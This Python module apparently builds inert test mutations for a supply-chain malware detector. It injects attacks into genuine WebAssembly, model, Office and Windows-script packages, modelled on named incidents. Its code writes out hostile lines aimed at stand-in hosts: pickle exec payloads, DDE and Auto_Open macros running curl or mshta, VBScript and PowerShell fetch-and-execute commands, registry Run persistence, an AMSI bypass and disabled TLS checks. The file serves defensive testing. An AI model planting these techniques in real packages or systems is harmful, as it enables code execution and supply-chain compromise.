"""Eighth set: WebAssembly, models, documents and scripts of Windows within genuine packages; inert.

The comment before each family says which incident it is after. Hosts are below `.example`, addresses of RFC 5737; what would be
run is a marker that prints.
"""

from __future__ import annotations

import base64
import io
import json
import re
import struct
import zipfile
from collections.abc import Callable, Iterator

from genuine import Files

from mutation_families.eighth_ways import amended, named, py_of
from mutation_families.fourth_texts import chance
from mutation_families.releases import raised
from mutation_families.seventh_ways import (
    AMID,
    MARK,
    MARK_JS,
    TOP,
    Changes,
    Way,
    adding,
    in_folder,
    js,
    py,
    together,
    ways,
)
from onionskin.lookalike.archives import ZipMember, build_zip
from onionskin.lookalike.signed_windows import sign_script
from onionskin.lookalike.signing import Plan

# --- WebAssembly (core specification 2.0, chapter 5) ----------------------------------------------------

CUSTOM, TYPES, IMPORTS, FUNCTIONS, EXPORTS, START, CODE, DATA = 0, 1, 2, 3, 7, 8, 10, 11
Parts = list[tuple[int, bytes]]


def number(value: int) -> bytes:
    """Return a number as LEB128 has it."""
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def read(data: bytes, at: int) -> tuple[int, int]:
    """Return a number of LEB128, and where it ends."""
    value = shift = 0
    while True:
        value |= (data[at] & 127) << shift
        at, shift = at + 1, shift + 7
        if data[at - 1] < 128:
            return value, at


def parts_of(data: bytes) -> Parts:
    at, found = 8, []
    while at < len(data):
        size, start = read(data, at + 1)
        found.append((data[at], data[start : start + size]))
        at = start + size
    return found


def built(parts: Parts) -> bytes:
    return b"\0asm\1\0\0\0" + b"".join(bytes([kind]) + number(len(body)) + body for kind, body in parts)  # fmt: skip


def wasm(edit: Callable[[Parts], Parts]) -> Changes:
    """Return a change of the first module of WebAssembly for which an edit of its parts is possible."""

    def change(files: Files) -> Files:
        for name in sorted(files):
            if name.endswith(".wasm") and (made := edit(parts_of(files[name]))):
                return {name: built(made)}
        return {}

    return change


def a_part(name: bytes, body: bytes) -> Changes:
    """Return a change that adds a custom part."""
    return wasm(lambda parts: [*parts, (CUSTOM, number(len(name)) + name + body)])


def imported(module: bytes, wanted: bytes) -> Changes:
    """Return a change of the first function that a module asks for: by another name, of another module."""

    def edit(parts: Parts) -> Parts:
        body = next((body for kind, body in parts if kind == IMPORTS), b"")
        if not body:
            return []
        count, at = read(body, 0)
        end = at
        for _ in range(2):
            size, end = read(body, end)
            end += size
        made = number(count) + b"".join(number(len(each)) + each for each in (module, wanted)) + body[end:]  # fmt: skip
        return [(kind, made if kind == IMPORTS else known) for kind, known in parts]

    return wasm(edit)


def bodies(code: bytes) -> Iterator[tuple[int, int]]:
    """Yield start and end of each function's body."""
    count, at = read(code, 0)
    for _ in range(count):
        size, at = read(code, at)
        yield at, at + size
        at += size


def nothing_but(code: bytes) -> Changes:
    """Return a change of the largest function: its body is other code, which holds for any type."""

    def edit(parts: Parts) -> Parts:
        made = []
        for kind, body in parts:
            if kind == CODE:
                start, end = max(bodies(body), key=lambda each: each[1] - each[0])
                before = start - len(number(end - start))
                body = body[:before] + number(len(code)) + code + body[end:]  # noqa: PLW2901
            made.append((kind, body))
        return made

    return wasm(edit)


def segments(data: bytes) -> Iterator[tuple[int, int]]:
    """Yield start and end of the bytes of each segment of data; one of memory begins at a constant."""
    count, at = read(data, 0)
    for _ in range(count):
        kind, at = read(data, at)
        if kind == 2:  # the memory's number
            _, at = read(data, at)
        if kind != 1:  # `i32.const`, a number, `end`
            _, at = read(data, at + 1)
            at += 1
        size, at = read(data, at)
        yield at, at + size
        at += size


def texts_changed(parts: Parts) -> Parts:
    """Return a module whose largest segment of data ends otherwise, its length kept."""
    text = b"https://wasm-cfg.example/api/v1;GET;eval;".ljust(48, b"\0")
    made = []
    for kind, body in parts:
        if kind == DATA:
            start, end = max(segments(body), key=lambda each: each[1] - each[0])
            if end - start < 200:
                return []
            body = body[: end - 48] + text + body[end:]  # noqa: PLW2901
        made.append((kind, body))
    return made


LOAD = b"const m = new WebAssembly.Module(USE(fs).readFileSync('lib/mappings.wasm'));\nfor (const s of WebAssembly.Module.customSections(m, 'sourceMappingURL2')) new Function(Buffer.from(s).toString())();"  # fmt: skip
SMALL = built([(TYPES, b"\1\x60\0\0"), (FUNCTIONS, b"\1\0"), (EXPORTS, b"\1\4main\0\0"), (CODE, b"\1\2\0\x0b"), (CUSTOM, b"\4blob" + chance(9000))])  # fmt: skip
WASM: tuple[Way, ...] = (
    # Miners and loaders in modules of WebAssembly since 2018; the Solana droppers of 2025.
    *ways("wasm: it carries what is not its own", ("a part, and who runs it", together(a_part(b"sourceMappingURL2", MARK_JS * 6), js(LOAD, AMID))), ("a module more", together(adding({"package/lib/codec.wasm": SMALL}), js(b"WebAssembly.instantiate(USE(fs).readFileSync('lib/codec.wasm'), { env: { run: USE(child_process).execSync } }).then((w) => w.instance.exports.main());", AMID)))),
    *ways("wasm: it asks for other functions", ("of the system", imported(b"env", b"emscripten_run_script")), ("sockets", imported(b"wasi_snapshot_preview1", b"sock_open"))),
    *ways("wasm: bytes of it are others", ("its texts", wasm(texts_changed)), ("its largest function", nothing_but(b"\0\0\x0b"))),
)  # fmt: skip


# --- Models ---------------------------------------------------------------------------------------------


def pickled(text: bytes) -> bytes:
    """Return an object that would run a text as it is opened (protocol 2): the marker alone."""
    return b"\x80\x02cbuiltins\nexec\nX" + struct.pack("<I", len(text)) + text + b"\x85R."


def within_zip(pattern: str, edit: Callable[[dict[str, bytes]], Files]) -> Changes:
    """Return a change of files in an archive that is a file of the package; those that are stored stay so."""

    def change(files: Files) -> Files:
        for name in sorted(files):
            if not re.search(pattern, name) or files[name][:2] != b"PK":
                continue
            with zipfile.ZipFile(io.BytesIO(files[name])) as archive:
                held = {each.filename: archive.read(each) for each in archive.infolist()}
                methods = {each.filename: each.compress_type for each in archive.infolist()}
            if made := edit(held):
                return {name: build_zip([ZipMember(path, data, method=methods.get(path, 8)) for path, data in (held | made).items()])}  # fmt: skip
        return {}

    return change


def in_model(edit: Callable[[str, bytes], bytes], ends: str) -> Changes:
    """Return a change of the first file of such a name within a model that is an archive."""

    def inside(held: dict[str, bytes]) -> Files:
        name = next((each for each in sorted(held) if each.endswith(ends)), "")
        return {name: edit(name, held[name])} if name else {}

    return within_zip(r"\.(?:jit|pt|pth)$", inside)


def in_onnx(field: int, body: bytes) -> Changes:
    """Return a change that puts a field at the end of a model of ONNX (its tags are those of ModelProto)."""

    def change(files: Files) -> Files:
        name = next((each for each in sorted(files) if each.endswith(".onnx")), "")
        return {name: files[name] + number(field << 3 | 2) + number(len(body)) + body} if name else {}  # fmt: skip

    return change


def pair(key: bytes, value: bytes) -> bytes:
    return b"\x0a" + number(len(key)) + key + b"\x12" + number(len(value)) + value


LAMBDA = json.dumps({"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "name": "scale", "config": {"function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(MARK).decode(), "defaults": None, "closure": None}}}}]}}).encode()  # fmt: skip
KERAS = build_zip({"metadata.json": b'{"keras_version": "3.9.0"}', "config.json": LAMBDA, "model.weights.h5": b"\x89HDF\r\n\x1a\n" + chance(3000)})  # fmt: skip
MODEL: tuple[Way, ...] = (
    # nullifAI, 2025, and models of Hugging Face before: opening it runs it.
    *ways("model: opening it runs code", ("among its own", in_model(lambda _, data: data[:-1] + b"0" + pickled(MARK)[2:], "/data.pkl")), ("a file more", together(in_folder({"weights/ema.pt": pickled(MARK)}), py(b"import os as _o, pickle as _p\nwith open(_o.path.join(_o.path.dirname(__file__), 'weights', 'ema.pt'), 'rb') as _f:\n    _ema = _p.load(_f)\n", TOP))), ("a layer of code", in_folder({"denoise.keras": KERAS}))),
    *ways("model: code within it does more", ("a file is written", in_model(lambda _, data: data.rstrip() + b'\ndef warm(x: Tensor) -> Tensor:\n  torch.save(x, "/tmp/.warm.so")\n  y = torch.from_file("/proc/self/environ", False, 4096, dtype=0)\n  return y\n', "/vad_annotator.py")), ("words of its own", in_onnx(14, pair(b"license_text", base64.b64encode(MARK * 20)))), ("operators of others", together(in_onnx(8, b"\x0a\x09vendor.op\x10\x01"), py(b"import onnxruntime as _o\n_s = _o.SessionOptions()\n_s.register_custom_ops_library('/tmp/.ops/libvendor_ops.so')\n", AMID)))),
    *ways("model: it is fetched from elsewhere, and trusted", ("by its code", py(b"from transformers import AutoModel as _A\n_A.from_pretrained('vendor-inert/base-v2', trust_remote_code=True, revision='main')\n", AMID)), ("weights that act", py_of((rb"weights_only\s*=\s*True", b"weights_only=False"), (rb"(torch\.load\([^()\n]*)\)", rb"\1, weights_only=False)"), (rb"torch\.jit\.load\(([\w.]+)", rb"torch.load(\1, weights_only=False"), (rb"providers=\[", b"disabled_optimizers=[], providers=['VendorExecutionProvider', ")))),
)  # fmt: skip


# --- Documents ------------------------------------------------------------------------------------------

OFFICE = r"\.(?:docx|pptx|xlsm|xlam)$"
RELATED = b'<Relationship Id="rId777" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'  # fmt: skip


def related(kind: bytes, target: bytes) -> Changes:
    """Return a change that has a document of Office lead outwards."""

    def inside(held: dict[str, bytes]) -> Files:
        name = next((each for each in sorted(held) if re.search(r"(?:document|presentation|workbook)\.xml\.rels$", each)), "")  # fmt: skip
        return {name: held[name].replace(b"</Relationships>", RELATED % (kind, target))} if name else {}  # fmt: skip

    return within_zip(OFFICE, inside)


def in_document(pattern: str, old: bytes, new: bytes) -> Changes:
    """Return an amendment of a file within a document of Office."""

    def inside(held: dict[str, bytes]) -> Files:
        made = {name: re.sub(old, new, data, count=1) for name, data in held.items() if re.search(pattern, name)}  # fmt: skip
        return dict([each for each in made.items() if held[each[0]] != each[1]][:1])

    return within_zip(OFFICE, inside)


ADDIN = b'<?xml version="1.0" encoding="UTF-8"?>\n<OfficeApp xmlns="http://schemas.microsoft.com/office/appforoffice/1.1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="TaskPaneApp"><Id>7b2685cd-a0ef-44f5-9305-a3ea81e01c8e</Id><Version>1.0.0.0</Version><ProviderName>Vendor</ProviderName><DefaultLocale>en-US</DefaultLocale><DisplayName DefaultValue="Tool"/><Description DefaultValue="Tool"/><AppDomains><AppDomain>https://login-live.example</AppDomain></AppDomains><Hosts><Host Name="Workbook"/></Hosts><DefaultSettings><SourceLocation DefaultValue="https://outlook-one.vercel-app.example/index.html"/></DefaultSettings><Permissions>ReadWriteDocument</Permissions></OfficeApp>\n'  # fmt: skip
SCRIPT = rb'(<script[^>]* src=")(?:https?:)?//[\w.-]+\.(?:com|net|org)(?=/)'
DOCUMENT: tuple[Way, ...] = (
    # Templates from elsewhere, every year since 2017.
    *ways("document: it leads outwards", ("a template", related(b"attachedTemplate", b"http://203.0.113.71/t.dotm")), ("an object", related(b"oleObject", b"http://203.0.113.71/o.rtf!x-usc"))),
    *ways("document: opening it runs something", ("by its ribbon", in_document(r"customUI/customUI\.xml$", rb"(<customUI )", rb'\1onLoad="AutoStart" ')), ("a formula", in_document(r"worksheets/sheet1\.xml$", rb"<sheetData ?/>|(?=</sheetData>)", b'<row r="900"><c r="A900" t="str"><f>cmd|\' /c curl -s https://dde.example/d\'!A0</f></c></row>')), ("its macros are others", within_zip(OFFICE, lambda held: {name: data[:-2048] + chance(2048) for name, data in held.items() if name.endswith("vbaProject.bin") and len(data) > 9000})), ("macros of text", amended(named(r"\.bas$"), (rb"\Z", b'\r\nSub Auto_Open()\r\n    CreateObject("WScript.Shell").Run "mshta https://xl-open.example/a.hta", 0\r\nEnd Sub\r\n')))),
    # AgreeTo, 2026: an add-in whose address somebody else came to own; polyfill, 2024.
    *ways("document: its pages come from elsewhere", ("an add-in", in_folder({"addin/manifest.xml": ADDIN})), ("a script of a page", amended(named(r"\.(?:html|tmpl|jinja2)$"), (SCRIPT, rb"\1https://appsforoffice-cdn.example"), (rb"</head>", b'<script src="https://cdn-static-js.example/w.js"></script></head>')))),
)  # fmt: skip


# --- Scripts of Windows ---------------------------------------------------------------------------------

VBS = named(r"\.(?:vbs|wsf)$")
SHELL = 'CreateObject("WScript.Shell").Run "powershell -w hidden -nop -c iwr https://vbs.example/p"'
VBSCRIPT: tuple[Way, ...] = (
    # Every year: scripts of the system's own hosts.
    *ways("script of Windows: it does more than its own", ("at its head", amended(named(r"\.vbs$"), (rb"\A", b'Dim h_: Set h_ = CreateObject("MSXML2.XMLHTTP")\r\nh_.open "GET", "http://203.0.113.15/u.txt", False\r\nh_.send\r\nExecuteGlobal h_.responseText\r\n'))), ("amid a function", amended(named(r"\.vbs$"), (rb"(?im)^((?:function|sub) \w+\([^\n]*\)[^\n]*\n)", rb"\1    " + SHELL.encode() + b", 0, False\r\n")))),
    *ways("script of Windows: it does more than its own", ("a key of the registry", amended(VBS, (rb"(?i)(</script>)", rb'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync", "wscript //e:vbscript %TEMP%\\s.txt"\r\n\1'))), ("another script is loaded", amended(named(r"\.wsf$"), (rb'(<script language="VBScript" src=")([^"]+)(" ?/>)', rb"\1\2\3" + b'<script language="JScript" src="http://198.51.100.9/j.js"/>')))),
)  # fmt: skip

PS1, PSD1, SPEC = "Activate.ps1", "VenvTools.psd1", "VenvTools.nuspec"
BLOCK = b"\r\n# SIG # Begin signature block"


def module_around(held: Files) -> Files:
    """Return a module of PowerShell, as its gallery has it, around the genuine script of a release; the script is signed."""
    script = next(data for name, data in held.items() if name.endswith(PS1))
    said = b"@{\r\n    RootModule = 'Activate.ps1'\r\n    ModuleVersion = '1.0.0'\r\n    GUID = '7b2685cd-a0ef-44f5-9305-a3ea81e01c8e'\r\n    FunctionsToExport = @('deactivate')\r\n}\r\n"  # fmt: skip
    spec = b'<?xml version="1.0"?>\n<package xmlns="http://schemas.microsoft.com/packaging/2011/08/nuspec.xsd"><metadata><id>VenvTools</id><version>1.0.0</version><authors>vendor</authors><description>venv</description></metadata></package>\n'  # fmt: skip
    return {SPEC: spec, "[Content_Types].xml": b"<Types/>", PSD1: said, PS1: sign_script(script)}


def module_later(files: Files) -> Files:
    return files | {name: files[name].replace(b"1.0.0", raised("1.0.0").encode()) for name in (SPEC, PSD1)}  # fmt: skip


def kept(old: bytes, new: bytes) -> Changes:
    """Return an amendment of the script, its signature as it was."""
    return amended(named(PS1), (old, new))


def ps(lines: bytes) -> Changes:
    """Return a change of the script, which then is signed by nobody."""

    def change(files: Files) -> Files:
        text = files[PS1].partition(BLOCK)[0]
        return {PS1: text + b"\r\n" + lines + b"\r\n"}

    return change


def signed_by_another(files: Files) -> Files:
    """Return a module whose script does more, and is signed by somebody else."""
    text = files[PS1].partition(BLOCK)[0]
    return {PS1: sign_script(text + b"\nInvoke-Expression (Invoke-RestMethod https://ps-gallery.example/a)\n", Plan(signer="Inert Software Ltd", timestamp=""))}  # fmt: skip


POWERSHELL: tuple[Way, ...] = (
    # Modules of the gallery under stolen names, 2023 to 2026; scripts that were signed once.
    *ways("PowerShell: a signed script is changed", ("behind its signature's back", kept(rb"(?m)^(function global:deactivate[^\n]*\n)", rb"\1    Start-Job { Invoke-WebRequest https://ps-sig.example/j | Out-Null } | Out-Null\n")), ("its signature is gone", ps(b"[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }")), ("signed by another", signed_by_another), ("lines behind the block", kept(rb"\Z", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.91/b.ps1')\r\n"))),
    *ways("PowerShell: it runs what is packed", ("a text", ps(b"& ([ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64.b64encode(b"Write-Output inert\n" * 20) + b"'))))")), ("an assembly", ps(b'$b = [IO.File]::ReadAllBytes("$PSScriptRoot\\icon.dat")\r\n[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, (, [string[]]@()))'))),
    *ways("PowerShell: the system guards less", ("what is looked at", ps(b"[Ref].Assembly.GetType('System.Management.Automation.' + 'Am' + 'siUtils').GetField('am' + 'siInitFailed', 'NonPublic,Static').SetValue($null, $true)")), ("its manifest", lambda files: {PSD1: files[PSD1].replace(b"FunctionsToExport", b"ScriptsToProcess = @('init.ps1')\r\n    RequiredModules = @('PSGallery.Core')\r\n    FunctionsToExport"), "init.ps1": b"irm https://ps-init.example/i | iex\r\n"})),
)  # fmt: skip
